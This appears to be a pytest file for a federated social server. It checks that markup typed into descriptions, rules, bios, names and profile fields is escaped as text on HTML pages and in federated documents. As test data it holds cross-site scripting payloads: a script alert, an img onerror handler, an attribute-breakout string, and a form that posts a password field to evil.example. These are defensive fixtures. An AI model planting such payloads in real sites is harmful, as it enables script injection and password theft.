"""Markup typed into any field people edit (page and group descriptions, group rules, bios, display names,
profile fields) reaches the HTML pages and the federated documents only as text: no script, form or event
handler of a user's ever becomes markup."""
from __future__ import annotations

import asyncio
import sys
import io
from html.parser import HTMLParser

import pytest

from models.actors import Actor, LocalUser
from server import keys
from server.cli import main
from tests.conftest import MootInstance
from tests.web.browser import FormClient
from web.passwords import hash_password

PASSWORD = "correct horse battery"
SCRIPT = "<script>alert(1)</script>"
FORM = '<form action="https://evil.example/steal"><input name="pw"></form>'
IMG = '<img src="x" onerror="alert(3)">'
PAYLOAD = f"Hello {SCRIPT}{FORM}{IMG} #bread"


class _Markup(HTMLParser):
    """The elements and attributes a browser would build from a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def assert_inert(html: str, where: str) -> None:
    markup = _Markup()
    markup.feed(html)
    assert not any("alert(" in script for script in markup.scripts), f"a user's script runs on {where}"
    for tag, attrs in markup.elements:
        handlers = [name for name in attrs if name.startswith("on")]
        assert not handlers, f"<{tag}> with {handlers} on {where}"
        assert not (tag == "form" and "evil.example" in (attrs.get("action") or "")), f"a user's form on {where}"
        assert not (tag == "input" and attrs.get("name") == "pw"), f"a user's input on {where}"
        assert not (tag == "img" and attrs.get("src") == "x"), f"a user's image on {where}"


async def _signed_in(moot: MootInstance) -> FormClient:
    ada, _ = await moot.user("ada", is_admin=True)
    await LocalUser.filter(actor=ada).update(password_hash=hash_password(PASSWORD))
    browser = FormClient(moot.base_url)
    page = await browser.submit("/login", "/login", {"username": "ada", "password": PASSWORD})
    assert "Sign out" in page.text
    return browser


async def test_markup_in_every_editable_field_stays_text(moot: MootInstance) -> None:
    browser = await _signed_in(moot)
    try:
        page = await browser.submit("/pages/new", "/pages/new", {
            "name": "bakery", "display_name": f"Bakery {SCRIPT}{IMG}", "category": IMG, "summary": PAYLOAD,
            "website": 'https://bakery.example/"onmouseover="alert(4)', "email": f"{IMG}@x.example"})
        assert page.url.endswith("/@bakery"), page.text[-1500:]
        page = await browser.submit("/groups/new", "/groups/new", {
            "name": "bakers", "display_name": f"Bakers {SCRIPT}", "description": PAYLOAD,
            "rules": f"Be kind {IMG}\n{FORM}\n{SCRIPT}"})
        assert page.url.endswith("/groups/bakers"), page.text[-1500:]
        page = await browser.submit("/settings", "/settings", {
            "display_name": f"Ada {IMG}{SCRIPT}", "bio": PAYLOAD, "locale": "en"})
        assert page.status == 200, page.text[-1500:]
        # Status 200 and the markup shown as text, on every page that shows these fields.
        for path in ("/@bakery", "/groups/bakers", "/@ada", "/explore", "/settings", "/home"):
            page = await browser.get(path)
            assert page.status == 200, (path, page.status)
            assert_inert(page.text, path)
        profile = (await browser.get("/@bakery")).text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in profile and "&lt;form action=" in profile
        group = (await browser.get("/groups/bakers")).text
        assert "&lt;form action=" in group and "&lt;img src=" in group
        # The source comes back as typed, for editing.
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in (await browser.get("/settings")).text
    finally:
        await browser.close()
    # What other servers receive: `summary` is HTML, with the markup escaped as text (`name` is plain text).
    for actor in await Actor.filter(local_name__in=["bakery", "ada"]) + await Actor.filter(group_name="bakers"):
        status, doc = await moot.get_ap(actor.uri)
        assert status == 200
        assert_inert(doc["summary"], f"{actor.uri} summary")
        assert "&lt;script&gt;" in doc["summary"]


async def test_a_page_described_on_the_command_line_is_text(
    moot: MootInstance, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
) -> None:
    await moot.user("ada", is_admin=True)
    monkeypatch.setenv("MOOT_DATABASE_URL", moot.app[keys.SETTINGS].database_url)
    monkeypatch.setenv("MOOT_BASE_URL", moot.base_url)
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    code = await asyncio.to_thread(main, ["page", "create", "news", "--owner", "ada", "--summary", PAYLOAD])
    assert code == 0, capsys.readouterr().err
    moot.use()
    page = await Actor.get(local_name="news")
    assert page.summary.startswith("<p>Hello &lt;script&gt;alert(1)&lt;/script&gt;&lt;form")
    async with moot.session.get(f"{moot.base_url}/@news") as response:
        assert response.status == 200
        assert_inert(await response.text(), "/@news")
    status, doc = await moot.get_ap(page.uri)
    assert status == 200 and doc["summary"] == page.summary


async def test_a_description_stored_as_raw_html_is_cleaned_when_shown(moot: MootInstance) -> None:
    """Pages made before descriptions were plain text kept raw HTML: the profile cleans it when it shows it."""
    ada, _ = await moot.user("ada", is_admin=True)
    page, _ = await moot.page("old", ada)
    await Actor.filter(id=page.id).update(summary=f"<p>Old <b>page</b></p>{SCRIPT}{FORM}{IMG}")
    async with moot.session.get(f"{moot.base_url}/@old") as response:
        html = await response.text()
    assert response.status == 200 and "<p>Old <b>page</b></p>" in html
    assert_inert(html, "/@old")
